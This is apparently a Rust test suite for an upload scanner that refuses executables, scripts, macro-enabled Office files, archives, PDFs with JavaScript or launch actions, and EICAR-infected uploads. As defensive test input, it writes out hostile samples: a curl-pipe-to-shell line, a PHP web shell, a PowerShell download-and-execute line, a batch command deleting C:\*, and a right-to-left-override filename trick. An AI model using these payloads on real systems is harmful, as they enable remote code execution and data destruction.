//! What is refused before a document is stored: the sniffed type, the name, PDF active
//! content, and a real clamd (the testkit's, knowing only the EICAR test file).

use bytes::Bytes;
use comply360_documents::FileType;
use comply360_documents::scan::{
    Clamd, ClamdAddress, ClamdError, Mismatch, Refusal, ScanVerdict, check_declared,
    pdf_active_content, sanitise_file_name, sniff,
};
use comply360_testkit::clamd::{eicar, test_clamd};
use std::io::Write;
use std::time::Duration;

const UPLOAD_INSTEAD: &str = "upload a PDF, JPEG, PNG, TIFF or HEIC of the document";

/// A small, well-formed one-page PDF with `text` in its content stream.
fn pdf(text: &str) -> Vec<u8> {
    let content = format!("BT /F1 12 Tf 72 720 Td ({text}) Tj ET");
    let objects = [
        "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R \
         /Resources << /Font << /F1 5 0 R >> >> >>"
            .to_owned(),
        format!(
            "<< /Length {} >>\nstream\n{content}\nendstream",
            content.len()
        ),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_owned(),
    ];
    let mut out = b"%PDF-1.4\n%\xE2\xE3\xCF\xD3\n".to_vec();
    let mut offsets = Vec::new();
    for (i, body) in objects.iter().enumerate() {
        offsets.push(out.len());
        write!(out, "{} 0 obj\n{body}\nendobj\n", i + 1).unwrap();
    }
    let xref = out.len();
    write!(out, "xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).unwrap();
    for o in offsets {
        writeln!(out, "{o:010} 00000 n ").unwrap();
    }
    write!(
        out,
        "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
        objects.len() + 1
    )
    .unwrap();
    out
}

/// A real 1×1 grey PNG (signature, IHDR, zlib IDAT, IEND, with CRCs).
fn png() -> Vec<u8> {
    fn chunk(out: &mut Vec<u8>, kind: &[u8], data: &[u8]) {
        out.extend_from_slice(&(data.len() as u32).to_be_bytes());
        let mut crc = flate2::Crc::new();
        crc.update(kind);
        crc.update(data);
        out.extend_from_slice(kind);
        out.extend_from_slice(data);
        out.extend_from_slice(&crc.sum().to_be_bytes());
    }
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    chunk(&mut out, b"IHDR", &[0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0]);
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    z.write_all(&[0, 0x80]).unwrap(); // filter byte, one grey pixel
    chunk(&mut out, b"IDAT", &z.finish().unwrap());
    chunk(&mut out, b"IEND", &[]);
    out
}

/// The start of a JFIF JPEG (SOI, APP0).
fn jpeg() -> Vec<u8> {
    let mut out = vec![0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10];
    out.extend_from_slice(b"JFIF\0\x01\x01\x00\x00\x48\x00\x48\x00\x00");
    out.extend_from_slice(&[0xFF, 0xDB, 0x00, 0x43, 0x00]);
    out
}

/// A TIFF header and an empty first IFD, in either byte order.
fn tiff(little_endian: bool) -> Vec<u8> {
    if little_endian {
        b"II*\0\x08\0\0\0\0\0\0\0\0\0".to_vec()
    } else {
        b"MM\0*\0\0\0\x08\0\0\0\0\0\0".to_vec()
    }
}

/// An ISO-BMFF `ftyp` box with `major` and compatible brands, as HEIC photos start.
fn ftyp(major: &[u8; 4], compatible: &[&[u8; 4]]) -> Vec<u8> {
    let size = 16 + 4 * compatible.len() as u32;
    let mut out = size.to_be_bytes().to_vec();
    out.extend_from_slice(b"ftyp");
    out.extend_from_slice(major);
    out.extend_from_slice(&[0, 0, 0, 0]);
    for b in compatible {
        out.extend_from_slice(*b);
    }
    out.extend_from_slice(b"\0\0\0\x08meta");
    out
}

/// A ZIP of stored (or, for `[Content_Types].xml` when `deflate`, deflated) entries, as
/// far as the local file headers go (a sniff never reads the central directory).
fn zip(entries: &[(&str, &[u8])], deflate: bool) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, data) in entries {
        let (method, data): (u16, Vec<u8>) = if deflate && *name == "[Content_Types].xml" {
            let mut z =
                flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
            z.write_all(data).unwrap();
            (8, z.finish().unwrap())
        } else {
            (0, data.to_vec())
        };
        out.extend_from_slice(b"PK\x03\x04\x14\x00\x00\x00");
        out.extend_from_slice(&method.to_le_bytes());
        out.extend_from_slice(&[0; 8]); // time, date, crc (not checked by a sniff)
        out.extend_from_slice(&(data.len() as u32).to_le_bytes());
        out.extend_from_slice(&(data.len() as u32).to_le_bytes());
        out.extend_from_slice(&(name.len() as u16).to_le_bytes());
        out.extend_from_slice(&[0, 0]);
        out.extend_from_slice(name.as_bytes());
        out.extend_from_slice(&data);
    }
    out.extend_from_slice(b"PK\x01\x02");
    out
}

#[test]
fn real_files_of_each_accepted_type_are_accepted() {
    assert_eq!(sniff(&pdf("ID copy")), Ok(FileType::Pdf));
    assert_eq!(sniff(&png()), Ok(FileType::Png));
    assert_eq!(sniff(&jpeg()), Ok(FileType::Jpeg));
    assert_eq!(sniff(&tiff(true)), Ok(FileType::Tiff));
    assert_eq!(sniff(&tiff(false)), Ok(FileType::Tiff));
    for major in [
        b"heic", b"heix", b"mif1", b"msf1", b"heim", b"heis", b"hevc",
    ] {
        assert_eq!(sniff(&ftyp(major, &[b"mif1", b"heic"])), Ok(FileType::Heic));
    }
}

/// The refusal's code, checked to name what the file is and say what to upload instead.
fn refused(head: &[u8]) -> (String, Refusal) {
    let refusal = sniff(head).expect_err("refused");
    let text = refusal.to_string();
    assert!(text.contains(UPLOAD_INSTEAD), "{text}");
    (refusal.code().to_owned(), refusal)
}

fn what(r: &Refusal) -> &str {
    match r {
        Refusal::Executable { what }
        | Refusal::Script { what }
        | Refusal::MacroOffice { what }
        | Refusal::Office { what }
        | Refusal::Archive { what }
        | Refusal::ActiveContent { what }
        | Refusal::Unsupported { what } => what,
    }
}

#[test]
fn programs_are_refused_as_programs() {
    let elf = std::fs::read("/bin/true").unwrap();
    let (code, r) = refused(&elf[..elf.len().min(8192)]);
    assert_eq!(
        (code.as_str(), what(&r)),
        ("executable", "a Linux program (ELF executable)")
    );
    let mut pe = b"MZ\x90\0\x03\0\0\0".to_vec();
    pe.resize(0x80, 0);
    pe.extend_from_slice(b"PE\0\0\x4c\x01");
    let (code, r) = refused(&pe);
    assert_eq!(
        (code.as_str(), what(&r)),
        ("executable", "a Windows program (PE executable)")
    );
    assert_eq!(
        r.to_string(),
        "This file is a Windows program (PE executable). Programs are never accepted: upload \
         a PDF, JPEG, PNG, TIFF or HEIC of the document."
    );
    for head in [
        &b"\0asm\x01\0\0\0"[..],
        b"dex\n035\0",
        b"\xCA\xFE\xBA\xBE\0\0\0\x34",
    ] {
        assert_eq!(refused(head).0, "executable");
    }
    let (code, r) = refused(&ole(0x000C_1084));
    assert_eq!(
        (code.as_str(), what(&r)),
        ("executable", "a Windows installer (MSI)")
    );
}

/// An OLE2 compound file's header and first directory sector, whose root entry has the
/// class id `{clsid-0000-0000-C000-000000000046}`.
fn ole(clsid: u32) -> Vec<u8> {
    let mut out = vec![0u8; 1024];
    out[..8].copy_from_slice(&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]);
    out[0x1A] = 0x3E; // minor version 0x3E, major version 3
    out[0x1C..0x20].copy_from_slice(&[0x03, 0x00, 0xFE, 0xFF]);
    out[0x1E..0x20].copy_from_slice(&9u16.to_le_bytes()); // 512-byte sectors
    out[0x30..0x34].copy_from_slice(&0u32.to_le_bytes()); // directory in sector 0
    let root = 512;
    out[root..root + 10].copy_from_slice(
        &"Root"
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .chain([0, 0])
            .collect::<Vec<u8>>(),
    );
    let mut id = clsid.to_le_bytes().to_vec();
    id.extend_from_slice(&[0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46]);
    out[root + 0x50..root + 0x60].copy_from_slice(&id);
    out
}

#[test]
fn scripts_are_refused_as_scripts() {
    for (head, expected) in [
        (
            &b"#!/bin/sh\ncurl http://x | sh\n"[..],
            "a script (it starts with #!)",
        ),
        (
            b"<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>",
            "a web page (HTML)",
        ),
        (
            b"<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"/>",
            "an SVG image, which can carry scripts",
        ),
        (b"<?php system($_GET['c']); ?>", "a PHP script"),
        (b"@echo off\r\ndel /q C:\\*\r\n", "a Windows batch file"),
        (
            b"$c = New-Object Net.WebClient; IEX($c.DownloadString('http://x'))",
            "a PowerShell script",
        ),
        (
            b"Set s = CreateObject(\"WScript.Shell\")\ns.Run \"calc\"",
            "a VBScript file",
        ),
        (b"var a = 1;\neval(unescape('%61'));", "a JavaScript file"),
    ] {
        let (code, r) = refused(head);
        assert_eq!((code.as_str(), what(&r)), ("script", expected));
    }
}

#[test]
fn office_files_are_refused_and_macros_named() {
    let docm = zip(
        &[
            (
                "[Content_Types].xml",
                b"<Types><Default Extension=\"xml\"/></Types>",
            ),
            ("word/document.xml", b"<w:document/>"),
            ("word/vbaProject.bin", b"\xD0\xCF\x11\xE0"),
        ],
        false,
    );
    let (code, r) = refused(&docm);
    assert_eq!(
        (code.as_str(), what(&r)),
        ("macro_office", "a Word document")
    );
    let xlsm = zip(
        &[(
            "[Content_Types].xml",
            b"<Types><Override ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+xml\" PartName=\"/xl/workbook.xml\"/></Types>",
        )],
        true,
    );
    assert_eq!(refused(&xlsm).0, "macro_office");
    let docx = zip(
        &[
            ("[Content_Types].xml", b"<Types/>"),
            ("word/document.xml", b"<w:document/>"),
        ],
        true,
    );
    let (code, r) = refused(&docx);
    assert_eq!(
        (code.as_str(), what(&r)),
        ("office", "a Word document (Office Open XML)")
    );
    let (code, r) = refused(&ole(0x0002_0906));
    assert_eq!(
        (code.as_str(), what(&r)),
        (
            "office",
            "a legacy Word document (.doc), which can carry macros"
        )
    );
    let (code, r) = refused(&ole(0x0002_0820));
    assert_eq!(
        (code.as_str(), what(&r)),
        (
            "office",
            "a legacy Excel workbook (.xls), which can carry macros"
        )
    );
    // The directory beyond the head: still an office file, named as what it may be.
    let header_only = ole(0x0002_0906)[..512].to_vec();
    let (code, r) = refused(&header_only);
    assert_eq!(code, "office");
    assert!(what(&r).contains("can carry macros"), "{r}");
}

#[test]
fn archives_text_and_unknown_bytes_are_refused() {
    let plain = zip(&[("notes.txt", b"hello")], false);
    let (code, r) = refused(&plain);
    assert_eq!((code.as_str(), what(&r)), ("archive", "a ZIP archive"));
    let jar = zip(&[("META-INF/MANIFEST.MF", b"Main-Class: X\n")], false);
    assert_eq!(refused(&jar).0, "executable");
    for (head, expected) in [
        (&b"Rar!\x1a\x07\x01\0"[..], "a RAR archive"),
        (b"7z\xBC\xAF\x27\x1C\0\x04", "a 7-Zip archive"),
        (b"\x1f\x8b\x08\0\0\0\0\0", "a gzip archive"),
    ] {
        let (code, r) = refused(head);
        assert_eq!((code.as_str(), what(&r)), ("archive", expected));
    }
    let mut tar = vec![0u8; 512];
    tar[257..262].copy_from_slice(b"ustar");
    tar[..9].copy_from_slice(b"notes.txt");
    assert_eq!(refused(&tar).0, "archive");
    let (code, r) = refused(b"Dear Sir,\nPlease find my ID number below.\n");
    assert_eq!(
        (code.as_str(), what(&r)),
        ("unsupported", "a plain text file")
    );
    let (code, r) = refused(b"GIF89a\x01\0\x01\0\0\0\0");
    assert_eq!(
        (code.as_str(), what(&r)),
        ("unsupported", "a .gif file (image/gif)")
    );
    assert_eq!(
        refused(&[0x00, 0x01, 0x02, 0x03, 0xFF, 0x10]).0,
        "unsupported"
    );
    assert_eq!(refused(b"").0, "unsupported");
    assert_eq!(
        refused(&ftyp(b"mif1", &[b"mif1", b"avif"])).1,
        Refusal::Unsupported {
            what: "a .avif file (image/avif)".into()
        }
    );
}

#[test]
fn a_name_or_declared_type_that_contradicts_the_bytes_is_refused() {
    assert_eq!(
        check_declared(FileType::Png, "ID copy.png", Some("image/png")),
        Ok(())
    );
    assert_eq!(check_declared(FileType::Pdf, "statement", None), Ok(()));
    let e = check_declared(FileType::Png, "statement.pdf", Some("application/pdf")).unwrap_err();
    assert_eq!(
        e,
        Mismatch::Extension {
            extension: "pdf".into(),
            actual: FileType::Png
        }
    );
    assert!(e.to_string().starts_with(
        "The file is named .pdf but its contents are a PNG image; rename it to .png or upload \
         the PDF"
    ));
    for name in ["id.exe", "id.pdf.js", "id.docm", "id.svg", "id.html"] {
        assert!(
            matches!(
                check_declared(FileType::Pdf, name, None),
                Err(Mismatch::DangerousExtension { .. })
            ),
            "{name}"
        );
    }
    let e = check_declared(FileType::Jpeg, "id.jpg", Some("application/pdf")).unwrap_err();
    assert!(
        e.to_string()
            .contains("sent as application/pdf but its contents are a JPEG image")
    );
    // The right-to-left override shows "idgpj.exe" as "idexe.jpg"; the name is checked as
    // sanitised, so the real extension, .exe, is what counts.
    assert!(check_declared(FileType::Jpeg, "id\u{202E}gpj.exe", None).is_err());
}

proptest::proptest! {
    #[test]
    fn sanitised_names_are_safe(raw in "\\PC{0,300}|[./\\\\ \u{202E}\u{200B}\u{2066}a-zA-Z\u{1}-\u{1f}é]{0,400}") {
        let name = sanitise_file_name(&raw);
        proptest::prop_assert!(!name.is_empty());
        proptest::prop_assert!(name.len() <= 255, "{} bytes", name.len());
        for c in name.chars() {
            proptest::prop_assert!(c != '/' && c != '\\', "separator in {:?}", name);
            proptest::prop_assert!(!c.is_control(), "control character in {:?}", name);
            proptest::prop_assert!(
                !matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200B}'..='\u{200F}' | '\u{FEFF}'),
                "invisible character in {:?}", name
            );
        }
        proptest::prop_assert!(!name.starts_with('.') && !name.starts_with(' '));
    }
}

#[test]
fn pdfs_with_active_content_are_refused() {
    assert_eq!(pdf_active_content(&pdf("A clean statement")), None);
    let js = pdf("x").into_iter().chain(
        b"6 0 obj\n<< /Type /Action /S /J#61vaScript /JS (app.alert\\(1\\)) >>\nendobj\n"
            .iter()
            .copied(),
    );
    let r = pdf_active_content(&js.collect::<Vec<_>>()).unwrap();
    assert_eq!(r.code(), "active_content");
    assert!(
        r.to_string().starts_with("This PDF contains JavaScript"),
        "{r}"
    );
    let launch = [
        pdf("x"),
        b"7 0 obj << /S /Launch /F (calc.exe) >> endobj".to_vec(),
    ]
    .concat();
    assert!(pdf_active_content(&launch).is_some());
}

fn chunks(parts: Vec<Vec<u8>>) -> impl futures::Stream<Item = Result<Bytes, std::io::Error>> {
    futures::stream::iter(parts.into_iter().map(|p| Ok(Bytes::from(p))))
}

fn clamd_at(address: ClamdAddress) -> Clamd {
    Clamd::new(address, Duration::from_secs(60))
}

#[tokio::test]
async fn clamd_finds_eicar_bare_and_inside_a_pdf_over_tcp_and_the_socket() {
    let Some(fixture) = test_clamd().await else {
        return;
    };
    for address in [
        ClamdAddress::Tcp(fixture.tcp.clone()),
        ClamdAddress::Unix(fixture.socket.clone()),
    ] {
        let clamd = clamd_at(address.clone());
        clamd.ping().await.unwrap();
        assert!(
            clamd.version().await.unwrap().starts_with("ClamAV"),
            "{address}"
        );
        // Split across chunks, as an upload arrives.
        let e = eicar();
        let bare = clamd
            .scan(chunks(vec![e[..30].to_vec(), e[30..].to_vec()]))
            .await
            .unwrap();
        assert!(
            matches!(&bare, ScanVerdict::Infected { signature } if signature.starts_with("Test.EICAR")),
            "{address}: {bare:?}"
        );
        let mut in_pdf = pdf("Statement");
        let at = in_pdf.len() / 2;
        in_pdf.splice(at..at, [b"\n%".to_vec(), eicar(), b"\n".to_vec()].concat());
        let found = clamd.scan(chunks(vec![in_pdf])).await.unwrap();
        assert!(
            matches!(&found, ScanVerdict::Infected { signature } if signature.starts_with("Test.EICAR.Body")),
            "{address}: {found:?}"
        );
        let clean = clamd
            .scan(chunks(vec![pdf("A clean statement")]))
            .await
            .unwrap();
        assert_eq!(clean, ScanVerdict::Clean, "{address}");
    }
}

#[tokio::test]
async fn a_stream_over_clamds_limit_gives_the_reason() {
    let Some(fixture) = test_clamd().await else {
        return;
    };
    let clamd = clamd_at(ClamdAddress::Tcp(fixture.tcp.clone()));
    let mib = 1024 * 1024;
    let over = (fixture.stream_max_length as usize) / mib + 2;
    let err = clamd
        .scan(chunks((0..over).map(|_| vec![b'a'; mib]).collect()))
        .await
        .unwrap_err();
    assert!(matches!(err, ClamdError::SizeLimit), "{err}");
    assert!(err.to_string().contains("raise StreamMaxLength"), "{err}");
}

#[tokio::test]
async fn an_unreachable_clamd_says_where_it_was_looked_for() {
    let dir = tempfile::tempdir().unwrap();
    let clamd = clamd_at(ClamdAddress::Unix(dir.path().join("none.sock")));
    let err = clamd.ping().await.unwrap_err();
    assert!(matches!(err, ClamdError::Unreachable { .. }), "{err}");
    assert!(
        err.to_string().contains("check that clamd is running"),
        "{err}"
    );
}
